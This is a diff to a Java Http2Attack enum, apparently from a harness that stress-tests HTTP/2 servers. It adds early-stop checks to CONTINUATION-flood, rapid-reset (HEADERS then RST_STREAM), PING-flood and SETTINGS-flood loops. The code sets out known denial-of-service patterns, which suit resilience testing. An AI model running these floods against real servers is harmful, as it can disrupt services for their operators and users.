@@ -46,13 +46,13 @@ enum Http2Attack implements Attack {
   CONTINUATION_FLOOD(4) {
     @Override
     void attack(Target target, OutputStream out, Random random) throws IOException {
-      continueHeaders(out, i -> header("x-" + i, "v".repeat(random.nextInt(100))));
+      continueHeaders(target, out, i -> header("x-" + i, "v".repeat(random.nextInt(100))));
     }
   },
   EMPTY_CONTINUATION_FLOOD(4) {
     @Override
     void attack(Target target, OutputStream out, Random random) throws IOException {
-      continueHeaders(out, i -> new byte[0]);
+      continueHeaders(target, out, i -> new byte[0]);
     }
   },
   HUGE_HEADER(4) {
@@ -66,7 +66,7 @@ enum Http2Attack implements Attack {
     @Override
     void attack(Target target, OutputStream out, Random random) throws IOException {
       greet(out);
-      for (int stream = 1; stream < 200_000; stream += 2) {
+      for (int stream = 1; stream < 200_000 && !target.isOver(); stream += 2) {
         out.write(frame(HEADERS, END_HEADERS, stream, request(0)));
         out.write(frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8}));
         pace(stream / 2);
@@ -76,13 +76,13 @@ enum Http2Attack implements Attack {
   PING_FLOOD(4) {
     @Override
     void attack(Target target, OutputStream out, Random random) throws IOException {
-      repeat(out, frame(PING, 0, 0, new byte[8]));
+      repeat(target, out, frame(PING, 0, 0, new byte[8]));
     }
   },
   SETTINGS_FLOOD(4) {
     @Override
     void attack(Target target, OutputStream out, Random random) throws IOException {
-      repeat(out, frame(SETTINGS, 0, 0, new byte[0]));
+      repeat(target, out, frame(SETTINGS, 0, 0, new byte[0]));
     }
   },
   HUGE_HEADER_TABLE(4) {
@@ -171,11 +171,11 @@ enum Http2Attack implements Attack {
   }
 
   /** Headers of one call without end. */
-  private static void continueHeaders(OutputStream out, IntFunction<byte[]> block)
+  private static void continueHeaders(Target target, OutputStream out, IntFunction<byte[]> block)
       throws IOException {
     greet(out);
     out.write(frame(HEADERS, 0, 1, request(0)));
-    for (int i = 0; i < 100_000; i++) {
+    for (int i = 0; i < 100_000 && !target.isOver(); i++) {
       out.write(frame(CONTINUATION, 0, 1, block.apply(i)));
     }
   }
@@ -188,9 +188,9 @@ enum Http2Attack implements Attack {
   }
 
   /** A frame that asks for an answer, over and over. */
-  private static void repeat(OutputStream out, byte[] frame) throws IOException {
+  private static void repeat(Target target, OutputStream out, byte[] frame) throws IOException {
     greet(out);
-    for (int i = 0; i < 500_000; i++) {
+    for (int i = 0; i < 500_000 && !target.isOver(); i++) {
       out.write(frame);
       pace(i);
     }
